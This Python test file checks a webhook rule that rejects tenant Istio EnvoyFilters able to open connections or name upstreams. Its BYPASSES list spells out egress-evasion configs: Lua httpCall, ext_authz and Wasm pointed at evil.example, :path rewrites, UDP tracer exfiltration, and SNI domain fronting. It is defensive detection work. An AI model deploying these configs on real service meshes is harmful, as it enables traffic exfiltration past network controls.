"""envoy-filter-upstreams: filters that open connections, or values naming an upstream, anywhere."""

from __future__ import annotations

from typing import Any

import pytest

from tests.unit.istio_objects import decide, findings
from tests.unit.sidecar_envoy_filter_objects import (
    HCM,
    LOCAL_RATELIMIT,
    envoy_filter,
    lua,
    patch,
)
from webhook.policy.rules.envoy_filter_upstreams import RULE

GITHUB = "outbound|443||api.github.com"
TS = "type.googleapis.com/"


def inbound(value: dict[str, Any], apply_to: str = "HTTP_FILTER", **kw: Any) -> dict[str, Any]:
    """A tenant EnvoyFilter with one patch confined to SIDECAR_INBOUND."""
    return envoy_filter(patch(apply_to, value, context="SIDECAR_INBOUND", listener=HCM, **kw))


def filter_value(name: str, type_url: str, **config: Any) -> dict[str, Any]:
    """An HTTP filter with a direct typed_config."""
    return {"name": name, "typed_config": {"@type": TS + type_url, **config}}


def outbound_header_mutation(key: str, value: str) -> dict[str, Any]:
    """An EnvoyFilter inserting a header_mutation filter that sets `key` on outbound requests."""
    return envoy_filter(
        patch(
            "HTTP_FILTER",
            filter_value(
                "envoy.filters.http.header_mutation",
                "envoy.extensions.filters.http.header_mutation.v3.HeaderMutation",
                mutations={
                    "request_mutations": [{"append": {"header": {"key": key, "value": value}}}]
                },
            ),
            context="SIDECAR_OUTBOUND",
            listener=HCM,
        )
    )


BYPASSES: list[tuple[str, dict[str, Any], list[str]]] = [
    (
        "inbound Lua whose httpCall reaches the host's own cluster",
        inbound(lua(f"function envoy_on_request(h) h:httpCall('{GITHUB}', {{}}, '', 1) end")),
        ["name", "typed_config.@type", "typed_config.inline_code"],
    ),
    (
        "Lua on a waypoint (context WAYPOINT, istio/api v1.30): httpCall reaches its clusters",
        envoy_filter(
            patch(
                "HTTP_FILTER",
                lua(),
                context="WAYPOINT",
                waypoint={"filter": {"name": "envoy.filters.network.http_connection_manager"}},
            )
        ),
        ["name", "typed_config.@type", "typed_config.inline_code"],
    ),
    (
        "Lua disguised by name, known by its TypedStruct type_url",
        inbound(
            {
                "name": "my.harmless.filter",
                "typedConfig": {
                    "@type": TS + "udpa.type.v1.TypedStruct",
                    "typeUrl": TS + "envoy.extensions.filters.http.lua.v3.Lua",
                    "value": {"defaultSourceCode": {"inlineString": "-- code"}},
                },
            }
        ),
        ["typedConfig.typeUrl", "typedConfig.value.defaultSourceCode"],
    ),
    (
        "ext_authz HTTP service naming a cluster (camelCase keys)",
        inbound(
            filter_value(
                "envoy.filters.http.ext_authz",
                "envoy.extensions.filters.http.ext_authz.v3.ExtAuthz",
                httpService={"serverUri": {"uri": "https://evil.example", "cluster": GITHUB}},
            )
        ),
        ["name", "typed_config.@type", "typed_config.httpService"],
    ),
    (
        "ext_proc over Google gRPC straight to a target URI",
        inbound(
            filter_value(
                "envoy.filters.http.ext_proc",
                "envoy.extensions.filters.http.ext_proc.v3.ExternalProcessor",
                grpc_service={"google_grpc": {"target_uri": "evil.example:443"}},
            )
        ),
        ["name", "typed_config.@type", "typed_config.grpc_service"],
    ),
    (
        "Wasm with remote code",
        inbound(
            filter_value(
                "envoy.filters.http.wasm",
                "envoy.extensions.filters.http.wasm.v3.Wasm",
                config={
                    "vm_config": {
                        "code": {"remote": {"http_uri": {"uri": "https://evil.example/m.wasm"}}}
                    }
                },
            )
        ),
        ["name", "typed_config.@type", "typed_config.config.vm_config"],
    ),
    (
        "dynamic forward proxy at a tenant gateway",
        envoy_filter(
            patch(
                "HTTP_FILTER",
                filter_value(
                    "envoy.filters.http.dynamic_forward_proxy",
                    "envoy.extensions.filters.http.dynamic_forward_proxy.v3.FilterConfig",
                    dns_cache_config={"name": "c"},
                ),
                context="GATEWAY",
            ),
            workloadSelector={"labels": {"app": "my-gw"}},
        ),
        ["name", "typed_config.@type", "typed_config.dns_cache_config"],
    ),
    (
        "global rate limit service (not local_ratelimit)",
        inbound(
            filter_value(
                "envoy.filters.http.ratelimit",
                "envoy.extensions.filters.http.ratelimit.v3.RateLimit",
                domain="d",
                rate_limit_service={
                    "grpc_service": {"envoy_grpc": {"cluster_name": GITHUB}},
                    "transport_api_version": "V3",
                },
            )
        ),
        ["name", "typed_config.@type", "typed_config.rate_limit_service.grpc_service"],
    ),
    (
        "JWT provider fetching keys from a remote URI",
        inbound(
            filter_value(
                "envoy.filters.http.jwt_authn",
                "envoy.extensions.filters.http.jwt_authn.v3.JwtAuthentication",
                providers={
                    "p": {"remote_jwks": {"http_uri": {"uri": "https://e", "cluster": "c"}}}
                },
            )
        ),
        ["typed_config.providers.p.remote_jwks"],
    ),
    (
        "tap streaming to an admin sink",
        inbound(
            filter_value(
                "envoy.filters.http.tap",
                "envoy.extensions.filters.http.tap.v3.Tap",
                common_config={"admin_config": {"config_id": "x"}},
            )
        ),
        ["name", "typed_config.@type"],
    ),
    (
        "inbound route sent to the host's own cluster",
        inbound({"route": {"cluster": GITHUB}}, apply_to="HTTP_ROUTE", operation="MERGE"),
        ["route.cluster"],
    ),
    (
        "inbound route mirrored outside",
        inbound(
            {"route": {"request_mirror_policies": [{"cluster": GITHUB}]}},
            apply_to="HTTP_ROUTE",
            operation="MERGE",
        ),
        ["route.request_mirror_policies"],
    ),
    (
        "inbound tcp_proxy replaced to dial out (the proxy's own traffic is never captured)",
        inbound(
            filter_value(
                "envoy.filters.network.tcp_proxy",
                "envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
                stat_prefix="x",
                cluster=GITHUB,
            ),
            apply_to="NETWORK_FILTER",
            operation="REPLACE",
        ),
        ["name", "typed_config.@type", "typed_config.cluster"],
    ),
    (
        "a Lua filter nested in a composite matcher, in a list",
        inbound(
            {
                "name": "envoy.filters.http.composite",
                "typed_config": {
                    "@type": TS + "envoy.extensions.common.matching.v3.ExtensionWithMatcher",
                    "matcher": {"on_match": [{"action": {"typed_config": lua()["typed_config"]}}]},
                },
            }
        ),
        [
            "typed_config.matcher.on_match[0].action.typed_config.@type",
            "typed_config.matcher.on_match[0].action.typed_config.inline_code",
        ],
    ),
    (
        "outbound header rewrite of :authority before routing",
        outbound_header_mutation(":authority", "db.example.com"),
        ["typed_config.mutations.request_mutations[0].append.header.key"],
    ),
    # Door: HeaderMutations (source/common/http/header_mutation.cc) sets :path like any
    # header, after the route is chosen; an absolute-form path reaches the next Envoy,
    # which takes the Host from it (RFC 7230 5.7, ServerConnectionImpl::handlePath).
    (
        "outbound :path set to an absolute URL after routing",
        outbound_header_mutation(":path", "http://evil.example.org/"),
        ["typed_config.mutations.request_mutations[0].append.header.key"],
    ),
    # Door: an inbound HTTP connection manager's tracer is a SIDECAR_INBOUND NETWORK_FILTER
    # MERGE; X-Ray's DaemonBrokerImpl (source/extensions/tracers/xray/daemon_broker.cc)
    # sends every span over its own UDP socket to daemon_endpoint, a SocketAddress that no
    # key above named: the proxy's own packets to any address, never captured.
    (
        "inbound tracer sending spans over UDP to an address of its own",
        inbound(
            {
                "typed_config": {
                    "@type": TS + "envoy.extensions.filters.network.http_connection_manager."
                    "v3.HttpConnectionManager",
                    "tracing": {
                        "provider": {
                            "name": "envoy.tracers.xray",
                            "typed_config": {
                                "@type": TS + "envoy.config.trace.v3.XRayConfig",
                                "segment_name": "app",
                                "daemon_endpoint": {
                                    "protocol": "UDP",
                                    "address": "203.0.113.7",
                                    "port_value": 2000,
                                },
                            },
                        }
                    },
                }
            },
            apply_to="NETWORK_FILTER",
        ),
        [
            "typed_config.tracing.provider.name",
            "typed_config.tracing.provider.typed_config.daemon_endpoint",
        ],
    ),
    (
        "DNS resolvers of its own (queries leave the pod directly)",
        inbound(
            {
                "name": "envoy.filters.http.local_ratelimit",
                "typed_config": {
                    **LOCAL_RATELIMIT["typed_config"],
                    "typed_dns_resolver_config": {"name": "envoy.network.dns_resolver.cares"},
                },
            }
        ),
        ["typed_config.typed_dns_resolver_config"],
    ),
    (
        "inbound tcp_proxy redirected by filter state to the host's own cluster",
        inbound(
            filter_value(
                "envoy.filters.network.set_filter_state",
                "envoy.extensions.filters.network.set_filter_state.v3.Config",
                on_new_connection=[
                    {
                        "object_key": "envoy.tcp_proxy.cluster",
                        "format_string": {"text_format_source": {"inline_string": GITHUB}},
                    }
                ],
            ),
            apply_to="NETWORK_FILTER",
            operation="INSERT_FIRST",
        ),
        ["name", "typed_config.@type"],
    ),
    (
        "inbound tcp_proxy sent to the cluster a client's SNI names (outbound|443||host)",
        inbound(
            filter_value(
                "envoy.filters.network.sni_cluster",
                "envoy.extensions.filters.network.sni_cluster.v3.SniCluster",
            ),
            apply_to="NETWORK_FILTER",
            operation="INSERT_FIRST",
        ),
        ["name", "typed_config.@type"],
    ),
    (
        "outbound upstream SNI set by filter state (domain fronting)",
        envoy_filter(
            patch(
                "HTTP_FILTER",
                filter_value(
                    "envoy.filters.http.set_filter_state",
                    "envoy.extensions.filters.http.set_filter_state.v3.Config",
                    on_request_headers=[
                        {
                            "object_key": "envoy.network.upstream_server_name",
                            "format_string": {
                                "text_format_source": {"inline_string": "blocked.example"}
                            },
                        }
                    ],
                ),
                context="SIDECAR_OUTBOUND",
                listener=HCM,
            )
        ),
        ["name", "typed_config.@type"],
    ),
    (
        "AWS request signing, whose credential providers dial metadata and STS themselves",
        inbound(
            filter_value(
                "envoy.filters.http.aws_request_signing",
                "envoy.extensions.filters.http.aws_request_signing.v3.AwsRequestSigning",
                service_name="s3",
                region="us-east-1",
            )
        ),
        ["name", "typed_config.@type"],
    ),
]

ORDINARY: list[tuple[str, dict[str, Any]]] = [
    ("rate-limit task: local rate limit", inbound(LOCAL_RATELIMIT)),
    (
        "inbound header manipulation, :authority included (inbound picks no upstream)",
        inbound(
            filter_value(
                "envoy.filters.http.header_mutation",
                "envoy.extensions.filters.http.header_mutation.v3.HeaderMutation",
                mutations={
                    "request_mutations": [
                        {"append": {"header": {"key": "x-tenant", "value": "shop"}}},
                        {"remove": ":authority"},
                    ]
                },
            )
        ),
    ),
    (
        "inbound header_to_metadata",
        inbound(
            filter_value(
                "envoy.filters.http.header_to_metadata",
                "envoy.extensions.filters.http.header_to_metadata.v3.Config",
                request_rules=[{"header": "x-version", "on_header_present": {"key": "v"}}],
            )
        ),
    ),
    (
        "local JWKS, inline",
        inbound(
            filter_value(
                "envoy.filters.http.jwt_authn",
                "envoy.extensions.filters.http.jwt_authn.v3.JwtAuthentication",
                providers={"p": {"local_jwks": {"inline_string": "{}"}}},
            )
        ),
    ),
    (
        "inbound direct response virtual host",
        inbound(
            {"routes": [{"match": {"prefix": "/"}, "direct_response": {"status": 403}}]},
            apply_to="VIRTUAL_HOST",
            operation="MERGE",
        ),
    ),
    (
        "outbound local rate limit (names no upstream, rewrites nothing)",
        envoy_filter(
            patch("HTTP_FILTER", LOCAL_RATELIMIT, context="SIDECAR_OUTBOUND", listener=HCM)
        ),
    ),
    (
        "RBAC filter in context ANY",
        envoy_filter(
            patch(
                "HTTP_FILTER",
                filter_value(
                    "envoy.filters.http.rbac",
                    "envoy.extensions.filters.http.rbac.v3.RBAC",
                    rules={"action": "DENY", "policies": {}},
                ),
                listener=HCM,
            )
        ),
    ),
]


@pytest.mark.parametrize(("why", "obj", "fields"), BYPASSES, ids=[b[0] for b in BYPASSES])
def test_bypasses_are_refused(why: str, obj: dict[str, Any], fields: list[str]) -> None:
    prefix = "spec.configPatches[0].patch.value."
    assert [v.field.removeprefix(prefix) for v in findings(RULE, obj)] == fields


@pytest.mark.parametrize(("why", "obj"), ORDINARY, ids=[o[0] for o in ORDINARY])
def test_ordinary_filters_pass(why: str, obj: dict[str, Any]) -> None:
    assert decide(obj).allowed, decide(obj).violations


def test_a_placement_refusal_is_not_said_twice() -> None:
    obj = envoy_filter(patch("CLUSTER", {"name": "x", "cluster_name": "y"}, operation="ADD"))
    assert findings(RULE, obj) == []
    assert [v.rule for v in decide(obj).violations] == ["envoy-filter-patches"]


def test_the_message_names_the_upstream_and_the_fix() -> None:
    obj = inbound({"route": {"cluster": GITHUB}}, apply_to="HTTP_ROUTE", operation="MERGE")
    (found,) = findings(RULE, obj)
    assert f'names an upstream ("{GITHUB}")' in found.message
    assert "ask the platform team" in found.message


def test_a_deeply_nested_value_is_walked_without_recursion() -> None:
    value: dict[str, Any] = {"cluster": GITHUB}
    for _ in range(5000):
        value = {"n": value}
    assert len(findings(RULE, inbound({"name": "x", "typed_config": value}))) == 1
